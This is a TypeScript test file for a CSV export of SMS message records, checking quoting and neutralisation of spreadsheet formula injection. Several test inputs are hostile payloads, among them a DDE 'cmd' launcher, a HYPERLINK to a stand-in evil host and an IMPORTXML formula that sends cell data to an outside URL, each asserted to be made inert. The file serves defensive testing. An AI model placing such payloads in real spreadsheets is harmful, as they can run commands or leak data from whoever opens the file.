import { describe, expect, it } from 'vitest';
import { testMessage } from '../../../test/messageFixture';
import { csvCell, messagesCsv, UTF8_BOM } from './messagesCsv';

const HEADER =
  'sid,date_created,date_sent,direction,from,to,status,body,num_media,num_segments,price,price_unit,error_code,error_message\r\n';

/** The data rows of a file (after the BOM and the header), each with its CRLF. */
function rowsOf(csv: string): string {
  expect(csv.startsWith(UTF8_BOM + HEADER)).toBe(true);
  return csv.slice(UTF8_BOM.length + HEADER.length);
}

describe('csvCell: RFC 4180 quoting', () => {
  it('leaves plain text as it is', () => {
    expect(csvCell('See you at 5')).toBe('See you at 5');
    expect(csvCell('')).toBe('');
  });

  it('quotes a field with a semicolon or a tab, which spreadsheets in many locales split at', () => {
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('a\tb')).toBe('"a\tb"');
  });

  it('quotes a field with a comma, a double quote (doubled), a CR or an LF', () => {
    expect(csvCell('Yes, Thursday')).toBe('"Yes, Thursday"');
    expect(csvCell('it is under "Maya".')).toBe('"it is under ""Maya""."');
    expect(csvCell('line one\nline two')).toBe('"line one\nline two"');
    expect(csvCell('line one\r\nline two')).toBe('"line one\r\nline two"');
    expect(csvCell('a\rb')).toBe('"a\rb"');
  });

  it('keeps non-ASCII text and emoji as they are', () => {
    expect(csvCell('Ça marche, à demain ! 🥐')).toBe('"Ça marche, à demain ! 🥐"');
    expect(csvCell('了解です！🙏')).toBe('了解です！🙏');
    expect(csvCell('👨‍👩‍👧')).toBe('👨‍👩‍👧');
  });
});

describe('csvCell: cells a spreadsheet would run are made inert', () => {
  it.each([
    ['=1+1', `"'=1+1"`],
    ['=HYPERLINK("https://evil.example","Click")', `"'=HYPERLINK(""https://evil.example"",""Click"")"`],
    ['+1+1', `"'+1+1"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
    ['\t=1+1', `"'\t'=1+1"`],
    ['\r=1+1', `"'\r'=1+1"`],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
  ])('%j becomes %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('makes phone numbers text: a spreadsheet would turn +14155550100 into 1.42E+10', () => {
    expect(csvCell('+14155550100')).toBe(`"'+14155550100"`);
  });

  it('leaves a plain decimal number, such as a price, a number people can sum', () => {
    expect(csvCell('-0.00790')).toBe('-0.00790');
    expect(csvCell('-1')).toBe('-1');
    expect(csvCell('0.0079')).toBe('0.0079');
    // One step beyond a plain number is inert again.
    expect(csvCell('-1+1')).toBe(`"'-1+1"`);
    expect(csvCell('-2E3')).toBe(`"'-2E3"`);
  });

  it.each([
    ['Total;=1+1;ok', `"Total;'=1+1;ok"`],
    ['Total,=1+1', `"Total,'=1+1"`],
    ['Total\t+1+1', `"Total\t'+1+1"`],
    ['a;-2+3;b;@SUM(A1)', `"a;'-2+3;b;'@SUM(A1)"`],
    ['a; =1+1', `"a; '=1+1"`],
    ['a;"=1+1"', `"a;""'=1+1"""`],
    [' =1+1', `" '=1+1"`],
    ['"=1+1', `"""'=1+1"`],
    ['Hello\n=1+1', `"Hello\n'=1+1"`],
    ['Hello\r\n-1+1', `"Hello\r\n'-1+1"`],
    ['=1;=2', `"'=1;'=2"`],
  ])(
    'makes a formula after any separator a spreadsheet splits at, or a line break, inert: %j becomes %j',
    (value, cell) => {
      expect(csvCell(value)).toBe(cell);
    },
  );

  it('leaves a formula character anywhere else as it is', () => {
    expect(csvCell('Total =1+1')).toBe('Total =1+1');
    expect(csvCell('mail me @ home')).toBe('mail me @ home');
    expect(csvCell('2+2=4; see you')).toBe('"2+2=4; see you"');
  });
});

describe('messagesCsv', () => {
  it('is the BOM, a header row and one CRLF-ended row per message, in the order given', () => {
    const csv = messagesCsv([
      testMessage({
        sid: 'SM2',
        direction: 'outbound-api',
        isInbound: false,
        from: '+14155550100',
        to: '+14155551234',
        dateCreatedMs: Date.UTC(2026, 10, 22, 19, 0, 36),
        dateSentMs: Date.UTC(2026, 10, 22, 19, 0, 37),
        status: 'undelivered',
        body: 'Yes, it is "open"',
        numMedia: 2,
        numSegments: 1,
        price: '-0.00790',
        priceUnit: 'USD',
        errorCode: 30003,
        errorMessage: 'Unreachable destination handset',
      }),
      testMessage({ sid: 'SM1', dateCreatedMs: Date.UTC(2026, 10, 21, 8, 5, 0), body: 'Hi' }),
    ]);
    expect(rowsOf(csv)).toBe(
      `SM2,2026-11-22T19:00:36Z,2026-11-22T19:00:37Z,outbound-api,"'+14155550100","'+14155551234",undelivered,"Yes, it is ""open""",2,1,-0.00790,USD,30003,Unreachable destination handset\r\n` +
        `SM1,2026-11-21T08:05:00Z,,inbound,"'+14155551234","'+14155550100",received,Hi,0,,,,,\r\n`,
    );
  });

  it('leaves an unknown date, media count or error empty: never 1970, 0 or "null"', () => {
    const csv = messagesCsv([
      testMessage({ sid: 'SM1', dateCreatedMs: null, dateSentMs: null, numMedia: null, body: 'x' }),
    ]);
    expect(rowsOf(csv)).toBe(`SM1,,,inbound,"'+14155551234","'+14155550100",received,x,,,,,,\r\n`);
    expect(csv).not.toContain('1970');
    expect(csv).not.toContain('null');
  });

  it('keeps a body with newlines, commas and emoji in one quoted field', () => {
    const body = 'Line one,\r\nline two 🚲\nthree "quoted"';
    const csv = messagesCsv([testMessage({ sid: 'SM1', body })]);
    expect(rowsOf(csv)).toContain(`,"Line one,\r\nline two 🚲\nthree ""quoted""",`);
  });

  it('makes a formula body inert', () => {
    const csv = messagesCsv([
      testMessage({ sid: 'SM1', body: '=IMPORTXML(CONCAT("https://x.example/?",A1),"//a")' }),
    ]);
    expect(rowsOf(csv)).toContain(`,"'=IMPORTXML(CONCAT(""https://x.example/?"",A1),""//a"")",`);
  });

  it("makes a formula after a semicolon inert, for Excel in a locale whose list separator is ';'", () => {
    const csv = messagesCsv([testMessage({ sid: 'SM1', body: 'Total;=1+1;ok' })]);
    expect(rowsOf(csv)).toContain(`,"Total;'=1+1;ok",`);
  });

  it('is only the BOM and the header for no messages', () => {
    expect(messagesCsv([])).toBe(UTF8_BOM + HEADER);
  });
});
